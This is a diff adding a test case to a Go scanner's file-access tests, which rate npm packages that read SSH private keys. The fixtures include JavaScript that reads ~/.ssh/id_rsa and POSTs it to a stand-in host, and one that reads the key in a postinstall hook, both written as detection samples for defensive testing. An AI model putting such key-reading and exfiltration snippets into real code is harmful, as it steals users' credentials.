@@ -94,6 +94,9 @@ func TestFileAccess(t *testing.T) {
 		// a deploy tool hands the user's key to its SSH client; the same
 		// read next to a request, or at install, is not that
 		{"ssh_client_key", map[string]string{"index.js": `const { Client } = require("ssh2"); const key = require("fs").readFileSync(require("os").homedir() + "/.ssh/id_rsa"); new Client().connect({ host, privateKey: key })`}, finding.SeverityLow},
+		// the key found by a config module of a package that depends on ssh2
+		{"ssh_client_dependency", map[string]string{"package.json": `{"name":"x","version":"1.0.0","dependencies":{"ssh2":"^1.15.0"}}`,
+			"lib/config.js": `const fs = require("fs"), os = require("os"), path = require("path"); exports.key = () => fs.readFileSync(path.join(os.homedir(), ".ssh", "id_ed25519"))`}, finding.SeverityLow},
 		{"ssh_client_key_and_fetch", map[string]string{"index.js": `require("ssh2"); const key = require("fs").readFileSync(require("os").homedir() + "/.ssh/id_rsa"); fetch("https://c.example.invalid/k", {method: "POST", body: key})`}, finding.SeverityHigh},
 		{"ssh_client_key_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node k.js"}`), "k.js": `require("ssh2"); const key = require("fs").readFileSync(require("os").homedir() + "/.ssh/id_rsa")`}, finding.SeverityHigh},
 		// public keys and host names are not secrets
